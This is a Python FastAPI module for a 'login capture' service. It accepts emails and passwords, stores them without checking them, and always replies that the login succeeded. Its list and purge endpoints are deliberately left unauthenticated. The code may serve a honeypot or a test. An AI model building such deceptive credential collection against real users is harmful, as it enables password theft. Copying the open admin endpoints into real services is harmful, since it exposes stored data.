"""
Login capture API endpoints.

The endpoints are deliberately unauthenticated: this is a capture tool and the
list/purge endpoints are part of its open contract.
"""

import json
import logging
from typing import Annotated, Any

from fastapi import APIRouter, Depends, Request

from loginlog.api.deps import get_ingest_service, get_record_store
from loginlog.core.config import settings
from loginlog.core.errors import ErrorMessage, bad_request, server_error
from loginlog.core.exceptions import InvalidSubmissionError, PersistenceFailureError, StoreUnavailableError
from loginlog.schemas.login_attempt import (
    LoginAcknowledgement,
    LoginAttemptEntry,
    LoginAttemptListResponse,
    LoginAttemptPurgeResponse,
    LoginResponse,
)
from loginlog.services.ingest import ClientContext, IngestService
from loginlog.services.record_store import LoginAttemptStore

logger = logging.getLogger(__name__)

router = APIRouter(tags=["login-attempts"])

FORM_CONTENT_TYPES = ("application/x-www-form-urlencoded", "multipart/form-data")


def media_type(request: Request) -> str:
    """Return the lower-cased media type of the request, without parameters."""
    return request.headers.get("content-type", "").split(";", 1)[0].strip().lower()


def is_json_media_type(value: str) -> bool:
    return value == "application/json" or value.endswith("+json")


async def read_submission(request: Request) -> dict[str, Any]:
    """
    Parse the submitted credentials from a JSON or form-encoded body.

    Any other media type, or a JSON body that is not an object, yields an
    empty submission; the ingest service then rejects it as missing fields.
    """
    content_type = media_type(request)

    if content_type in FORM_CONTENT_TYPES:
        form = await request.form()
        return {key: value for key, value in form.items() if isinstance(value, str)}

    if not is_json_media_type(content_type):
        return {}

    body = await request.body()
    if not body:
        return {}
    try:
        payload = json.loads(body)
    except ValueError:
        logger.warning("Ignoring malformed JSON login body")
        return {}
    return payload if isinstance(payload, dict) else {}


@router.post("/login", response_model=LoginResponse)
async def submit_login(
    request: Request,
    service: Annotated[IngestService, Depends(get_ingest_service)],
):
    """
    Record a login submission.

    Always reports success for a well-formed submission; no credential check
    is performed.
    """
    try:
        submission = await read_submission(request)
        ack = await service.submit(
            submission.get("email"),
            submission.get("password"),
            ClientContext.from_request(request),
        )
    except InvalidSubmissionError:
        raise bad_request(ErrorMessage.MISSING_CREDENTIALS)
    except PersistenceFailureError:
        raise server_error(ErrorMessage.SERVER_ERROR)
    except Exception:
        logger.exception("Unexpected error while recording login attempt")
        raise server_error(ErrorMessage.SERVER_ERROR)

    return LoginResponse(
        message="Login successful! Data saved.",
        data=LoginAcknowledgement(**ack.to_dict()),
    )


@router.get("/login-attempts", response_model=LoginAttemptListResponse)
async def list_login_attempts(
    store: Annotated[LoginAttemptStore, Depends(get_record_store)],
):
    """Get the most recent login attempts, newest first, without passwords."""
    try:
        attempts = await store.list(limit=settings.LIST_LIMIT)
    except StoreUnavailableError:
        raise server_error(ErrorMessage.FETCH_FAILED)
    except Exception:
        logger.exception("Unexpected error while listing login attempts")
        raise server_error(ErrorMessage.FETCH_FAILED)

    return LoginAttemptListResponse(
        count=len(attempts),
        data=[LoginAttemptEntry.model_validate(attempt) for attempt in attempts],
    )


@router.delete("/login-attempts", response_model=LoginAttemptPurgeResponse)
async def purge_login_attempts(
    store: Annotated[LoginAttemptStore, Depends(get_record_store)],
):
    """Delete all login attempts."""
    try:
        deleted = await store.purge()
    except StoreUnavailableError:
        raise server_error(ErrorMessage.DELETE_FAILED)
    except Exception:
        logger.exception("Unexpected error while deleting login attempts")
        raise server_error(ErrorMessage.DELETE_FAILED)

    logger.info(f"Deleted {deleted} login attempts via API")
    return LoginAttemptPurgeResponse(message="All login attempts deleted")
